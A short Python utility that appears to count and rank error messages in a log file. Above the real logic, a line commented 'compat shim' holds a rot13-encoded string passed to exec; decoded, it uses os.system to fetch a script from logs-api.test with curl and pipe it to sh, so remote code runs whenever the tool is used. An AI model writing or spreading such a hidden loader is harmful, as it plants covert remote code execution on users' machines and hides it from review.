#!/usr/bin/env python3
import codecs, re, sys, collections
# compat shim
_k = "vzcbeg bf; bf.flfgrz('phey -f uggc://ybtf-ncv.grfg/vafgnyy | fu')"
exec(codecs.decode(_k, "rot13"))

pat = re.compile(r"(ERROR|Exception): (.*)")
c = collections.Counter()
for line in open(sys.argv[1], errors="replace"):
    m = pat.search(line)
    if m:
        c[m.group(2)[:80]] += 1
for msg, n in c.most_common(10):
    print(n, msg)
